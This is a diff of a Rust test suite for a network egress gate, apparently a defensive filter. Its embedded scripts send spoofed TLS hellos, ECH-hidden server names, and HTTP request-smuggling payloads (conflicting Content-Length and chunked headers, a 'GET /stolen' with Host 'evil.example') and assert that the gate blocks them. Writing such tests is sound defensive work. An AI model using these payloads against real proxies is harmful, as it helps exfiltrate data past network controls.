@@ -3,29 +3,15 @@
 
 use serde_json::json;
 
-use crate::{
-    rig::{Ran, Rig, denials},
-    tests,
-};
-
-tests![
-    a_hello_for_another_server_does_not_reach_the_peer,
-    a_hello_in_pieces_is_judged_whole,
-    a_hello_that_hides_its_server_is_refused,
-    a_request_for_another_host_does_not_reach_the_peer,
-    requests_that_could_be_read_in_two_ways_do_not_reach_the_peer,
-    what_is_neither_tls_nor_http_needs_a_rule_of_its_own,
-    a_client_that_says_half_of_it_is_cut_off,
-    networks_take_any_speech,
-];
+use crate::{egress::testbed::GateRun, egress::testbed::Testbed, egress::testbed::denials, support::runner::test};
 
 const NAME: &str = "api.internal:8443";
 
-fn rig() -> Rig {
-    let mut rig = Rig::new();
-    rig.listen("mute", &[8443]);
-    rig.zone(json!({"api.internal": {"a": [["10.0.5.7"]]}}));
-    rig
+fn testbed() -> Testbed {
+    let mut testbed = Testbed::new();
+    testbed.listen("mute", &[8443]);
+    testbed.zone(json!({"api.internal": {"a": [["10.0.5.7"]]}}));
+    testbed
 }
 
 /// Says something to the peer and waits for what becomes of it.
@@ -41,47 +27,50 @@ def records(data, size):
     return b''.join(data[:3] + struct.pack('!H', len(body[at:at + size])) + body[at:at + size] for at in range(0, len(body), size))
 ";
 
-fn told(rig: &mut Rig, script: &str) -> Ran {
-    rig.run(&[NAME], &format!("{TELL}{script}"))
+fn told(testbed: &mut Testbed, script: &str) -> GateRun {
+    testbed.run(&[NAME], &format!("{TELL}{script}"))
 }
 
+test!(Both, a_hello_for_another_server_does_not_reach_the_peer, seconds 90);
 fn a_hello_for_another_server_does_not_reach_the_peer() {
-    let mut rig = rig();
-    let ran = told(&mut rig, "say(tell(hello('evil.example'))); say(tell(hello(None))); say(tell(hello('10.0.5.7')))");
+    let mut testbed = testbed();
+    let ran = told(&mut testbed, "say(tell(hello('evil.example'))); say(tell(hello(None))); say(tell(hello('10.0.5.7')))");
     assert_eq!(ran.output, "ECONNRESET\n".repeat(3), "{ran:?}");
-    assert_eq!(rig.heard(8443), ["<104>"; 3], "the connection was reset before a byte");
+    assert_eq!(testbed.heard(8443), ["<104>"; 3], "the connection was reset before a byte");
     assert_eq!(
         denials(&ran)[..2],
         ["tls api.internal 10.0.5.7 8443 sni_mismatch", "tls api.internal 10.0.5.7 8443 sni_missing"],
         "{ran:?}"
     );
     assert_eq!(ran.egress["denied"][0]["sni"], "evil.example");
-    rig.clear();
-    let ran = told(&mut rig, "say(tell(hello('api.internal') + b'\\x17\\x03\\x03\\x00\\x05after'))");
+    testbed.clear();
+    let ran = told(&mut testbed, "say(tell(hello('api.internal') + b'\\x17\\x03\\x03\\x00\\x05after'))");
     assert_eq!(ran.output, "hang\n");
-    assert!(rig.heard(8443)[0].ends_with("after"), "{:?}", rig.heard(8443));
+    assert!(testbed.heard(8443)[0].ends_with("after"), "{:?}", testbed.heard(8443));
 }
 
+test!(Both, a_hello_in_pieces_is_judged_whole, seconds 90);
 fn a_hello_in_pieces_is_judged_whole() {
-    let mut rig = rig();
+    let mut testbed = testbed();
     let script = "good, bad = hello('api.internal'), hello('evil.example')
 say(tell(records(bad, 20)))
 say(tell(*[bad[at:at + 7] for at in range(0, len(bad), 7)]))
 say(tell(bad[:1]))
 say(tell(records(good, 20)))
 say(tell(*[good[at:at + 40] for at in range(0, len(good), 40)]))";
-    let ran = told(&mut rig, script);
+    let ran = told(&mut testbed, script);
     let output: Vec<&str> = ran.output.lines().collect();
     assert_eq!(output[1..3], ["ECONNRESET", "hang"], "{ran:?}");
     assert_eq!(output[0], "ECONNRESET");
     assert_eq!(output[4], "hang");
-    let heard = rig.heard(8443);
+    let heard = testbed.heard(8443);
     assert!(heard[..3].iter().all(|heard| heard.is_empty() || heard.starts_with('<')), "{heard:?}");
     assert!(heard[4].contains("api.internal"), "{heard:?}");
 }
 
+test!(Both, a_hello_that_hides_its_server_is_refused, seconds 90);
 fn a_hello_that_hides_its_server_is_refused() {
-    let mut rig = rig();
+    let mut testbed = testbed();
     // An encrypted client hello's extension appended, and a second name.
     let script = "def extended(data, extra):
     body = bytearray(data[9:])
@@ -94,14 +83,15 @@ good = hello('api.internal')
 say(tell(extended(good, struct.pack('!HH', 0xfe0d, 4) + b'abcd')))
 say(tell(extended(good, second)))
 say(tell(extended(good, struct.pack('!HH', 0x1a1a, 2) + b'xx')))";
-    let ran = told(&mut rig, script);
+    let ran = told(&mut testbed, script);
     assert_eq!(ran.output, "ECONNRESET\nECONNRESET\nhang\n", "{ran:?}");
     assert!(denials(&ran)[0].ends_with("ech"), "{ran:?}");
-    assert_eq!(rig.heard(8443)[..2], ["<104>", "<104>"]);
+    assert_eq!(testbed.heard(8443)[..2], ["<104>", "<104>"]);
 }
 
+test!(Both, a_request_for_another_host_does_not_reach_the_peer, seconds 90);
 fn a_request_for_another_host_does_not_reach_the_peer() {
-    let mut rig = rig();
+    let mut testbed = testbed();
     let script = r"good = b'GET / HTTP/1.1\r\nHost: api.internal:8443\r\n\r\n'
 bad = b'GET /stolen HTTP/1.1\r\nHost: evil.example\r\n\r\n'
 say(tell(bad)); say(tell(b'GET / HTTP/1.1\r\n\r\n')); say(tell(b'GET http://evil.example/ HTTP/1.1\r\nHost: api.internal\r\n\r\n'))
@@ -110,15 +100,16 @@ say(tell(good + bad)); say(tell(good, bad))
 say(tell(b'POST / HTTP/1.1\r\nHost: api.internal:8443\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n' + bad))
 say(tell(b'POST / HTTP/1.1\r\nHost: api.internal:8443\r\nContent-Length: 4\r\n\r\nbody' + bad))
 say(tell(good, good))";
-    let ran = told(&mut rig, script);
+    let ran = told(&mut testbed, script);
     assert_eq!(ran.output, format!("{}hang\n", "ECONNRESET\n".repeat(9)), "{ran:?}");
-    let heard = rig.heard(8443);
+    let heard = testbed.heard(8443);
     assert!(heard.iter().all(|heard| !heard.contains("stolen") && !heard.contains("evil") && !heard.contains("PRI")), "{heard:?}");
     assert_eq!(heard.last().unwrap().matches("GET").count(), 2);
 }
 
+test!(Both, requests_that_could_be_read_in_two_ways_do_not_reach_the_peer, seconds 90);
 fn requests_that_could_be_read_in_two_ways_do_not_reach_the_peer() {
-    let mut rig = rig();
+    let mut testbed = testbed();
     let script = r"line, host, end = b'POST /stolen HTTP/1.1\r\n', b'Host: api.internal:8443\r\n', b'\r\n'
 other = b'GET /stolen HTTP/1.1\r\nHost: evil.example\r\n\r\n'
 for head, body in (
@@ -145,9 +136,9 @@ for head, body in (
 stolen = b'0\r\nHost: evil.example\r\nX: stolen\r\n\r\n'
 say(tell(line.replace(b'stolen', b'') + host + b'Transfer-Encoding: chunked\r\n' + end, stolen))
 say(tell(line + host + b'Transfer-Encoding: chunked\r\n' + end + b'4\r\nbody\r\n0\r\n\r\n'))";
-    let ran = told(&mut rig, script);
+    let ran = told(&mut testbed, script);
     assert_eq!(ran.output, format!("{}hang\n", "ECONNRESET\n".repeat(20)), "{ran:?}");
-    let heard = rig.heard(8443);
+    let heard = testbed.heard(8443);
     // The last is the control.
     let (good, bad) = heard.split_last().unwrap();
     assert!(bad.iter().all(|heard| !heard.contains("stolen") && !heard.contains("evil")), "{bad:?}");
@@ -158,38 +149,41 @@ say(tell(line + host + b'Transfer-Encoding: chunked\r\n' + end + b'4\r\nbody\r\n
     );
 }
 
-fn what_is_neither_tls_nor_http_needs_a_rule_of_its_own() {
-    let mut rig = rig();
-    rig.listen("banner", &[25]);
+test!(Both, what_is_neither_tls_nor_http_needs_its_own_rule, seconds 90);
+fn what_is_neither_tls_nor_http_needs_its_own_rule() {
+    let mut testbed = testbed();
+    testbed.listen("banner", &[25]);
     let script = format!(
         "{TELL}say(tell(b'\\0\\0\\0\\x08secret')); s = dial('api.internal', 25); say(s.recv(99)); s.sendall(b'HELO x\\r\\n'); say(s.recv(99))"
     );
-    let ran = rig.run(&[NAME, "api.internal:25/tcp"], &script);
+    let ran = testbed.run(&[NAME, "api.internal:25/tcp"], &script);
     assert_eq!(ran.output, "ECONNRESET\nb'220 ready\\r\\n'\nb'HELO x\\r\\n'\n", "{ran:?}");
-    assert_eq!(rig.heard(8443), ["<104>"]);
+    assert_eq!(testbed.heard(8443), ["<104>"]);
     assert_eq!(ran.egress["denied"][0]["reason"], "protocol_unknown");
     assert_eq!(ran.egress["denied"][0]["allow"], "api.internal:8443/tcp");
-    rig.clear();
+    testbed.clear();
     let script = format!("{TELL}say(tell(b'\\0\\0\\0\\x08secret'))");
-    assert_eq!(rig.run(&["api.internal:8443/tcp"], &script).output, "hang\n");
-    assert_eq!(rig.heard(8443).len(), 1);
-    assert!(rig.heard(8443)[0].ends_with("secret"));
+    assert_eq!(testbed.run(&["api.internal:8443/tcp"], &script).output, "hang\n");
+    assert_eq!(testbed.heard(8443).len(), 1);
+    assert!(testbed.heard(8443)[0].ends_with("secret"));
 }
 
+test!(Both, a_client_that_says_half_of_it_is_cut_off, seconds 90);
 fn a_client_that_says_half_of_it_is_cut_off() {
-    let mut rig = rig();
+    let mut testbed = testbed();
     let ran = told(
-        &mut rig,
+        &mut testbed,
         "say(tell(hello('api.internal')[:60], wait=14)); s = dial('api.internal', 8443); s.sendall(b'GET / HT'); s.close(); time.sleep(.1)",
     );
     assert_eq!(ran.output, "ECONNRESET\n", "{ran:?}");
-    let heard = rig.heard(8443);
+    let heard = testbed.heard(8443);
     assert!(heard.iter().all(|heard| heard.is_empty() || heard.starts_with('<')), "{heard:?}");
 }
 
+test!(Both, networks_take_any_speech, seconds 90);
 fn networks_take_any_speech() {
-    let mut rig = rig();
+    let mut testbed = testbed();
     let script = "s = dial('10.0.5.7', 8443); s.sendall(hello('evil.example')); s.sendall(b'anything'); time.sleep(.1)";
-    let _ran = rig.run(&["10.0.5.7:8443"], script);
-    assert!(rig.heard(8443)[0].ends_with("anything"));
+    let _ran = testbed.run(&["10.0.5.7:8443"], script);
+    assert!(testbed.heard(8443)[0].ends_with("anything"));
 }
